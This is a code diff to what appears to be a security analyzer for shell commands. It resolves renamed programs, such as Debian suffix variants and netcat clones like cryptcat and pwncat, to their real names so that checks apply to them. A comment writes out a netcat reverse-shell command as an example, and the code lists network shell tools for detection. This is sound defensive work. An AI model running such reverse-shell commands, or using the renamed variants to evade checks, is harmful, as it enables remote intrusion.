@@ -245,6 +245,24 @@ _RUNNERS: dict[tuple[str, str], frozenset[str]] = {
 _RUBY_LAUNCHERS = frozenset({"rails", "rake", "spring"})
 # Another name for an application's rails or rake (GitLab's omnibus wrappers).
 _APP_ALIASES = {"gitlab-rails": "rails", "gitlab-rake": "rake"}
+# The same program installed under another name: Debian's alternatives name each build of a program by a suffix
+# (nc.traditional and nc.openbsd provide nc, vim.basic and vim.tiny vim, awk's mawk.* builds), and netcat's clones
+# take netcat's options (-e PROG, -c CMD, -l): cryptcat (netcat with Twofish), netcat6 / nc6, sbd, pwncat (cytopia's,
+# "netcat on steroids"). Each is judged as the program it is, so `nc.traditional -e /bin/sh HOST PORT` is netcat's -e.
+_VARIANT_SUFFIXES = frozenset({"traditional", "openbsd", "basic", "tiny", "nox", "gtk", "gtk3", "athena", "gnu", "bsd"})
+_NETCAT_CLONES = {"cryptcat": "nc", "nc6": "nc", "netcat6": "nc", "sbd": "nc", "pwncat": "nc", "netcat-traditional": "nc", "netcat-openbsd": "nc"}
+
+
+def installed_as(name: str) -> str | None:
+    """The program *name* is another installed name of (nc.traditional -> nc, cryptcat -> nc), or None."""
+    if name in _NETCAT_CLONES:
+        return _NETCAT_CLONES[name]
+    base, dot, suffix = name.rpartition(".")
+    if dot and base and suffix in _VARIANT_SUFFIXES and known_program(base):
+        return _NETCAT_CLONES.get(base, base)
+    return None
+
+
 _TERMINALS = frozenset(
     {"xterm", "uxterm", "konsole", "alacritty", "kitty", "wezterm", "foot", "urxvt", "rxvt", "terminator", "tilix", "xfce4-terminal", "lxterminal", "st"}
 )
@@ -1988,6 +2006,12 @@ class Unwrapper:
             # gitlab-rails, gitlab-rake: the application's own rails and rake under another name.
             self.out.commands.append(cmd)
             self.command(cmd.derive([Word(_APP_ALIASES[name], argv[0].raw), *argv[1:]], name))
+            return
+        real = installed_as(name) if "." in name or name in _NETCAT_CLONES else None
+        if real is not None:
+            # nc.traditional, vim.tiny, cryptcat: the program they are, under its own name.
+            self.out.commands.append(cmd)
+            self.command(cmd.derive([Word(real, argv[0].raw), *argv[1:]], name))
             return
         if name == "lvm" and (k := next((k for k in range(1, len(argv)) if _LVM_COMMAND.fullmatch(argv[k].value)), 0)):
             # lvm [OPTS] lvremove ARGS: lvm(8) runs its command; options before it stay with it (`lvm --test
